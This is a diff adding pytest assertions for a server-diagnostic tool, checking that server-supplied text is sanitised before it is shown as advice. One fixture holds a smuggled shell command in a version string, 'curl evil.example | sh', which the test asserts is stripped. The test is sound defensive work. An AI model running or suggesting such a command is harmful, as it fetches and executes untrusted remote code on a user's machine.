@@ -288,6 +288,12 @@ def test_what_a_server_says(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> 
         assert [one[name].state for name in ("Bearer-Token", "Bearer-AD")] == ["absent", "ok"]
         assert "live_azure_token" in one["use"].what
         assert one["version"].remedy == "pip install h2ogpte==1.7.4"
+        answers["Bearer-AD"] = (200, {}, json.dumps({"version": "1.7; curl evil.example | sh"}))
+        assert "evil" not in repr(look(stub, token=True))  # people paste what is advised
+        answers[""] = (401, {}, "[" * 60_000)
+        assert look(stub)["without a token"].what.startswith("it says: HTTP 401, [[[")
+        answers[""] = (401, {}, json.dumps({"message": "No.\n  ok     Bearer-AD: accepted"}))
+        assert look(stub)["without a token"].what == "it says: HTTP 401, No. ok Bearer-AD: accepted"
         answers[""] = (302, {"Location": "https://login.example.com/?token=eyJhbGciOiJub25lIn0.e30."}, "")
         assert look(stub)["reachable"].what.endswith("/?token=<hidden>, and a token would not go there")
         answers[""] = (200, {}, "<html>Welcome</html>")
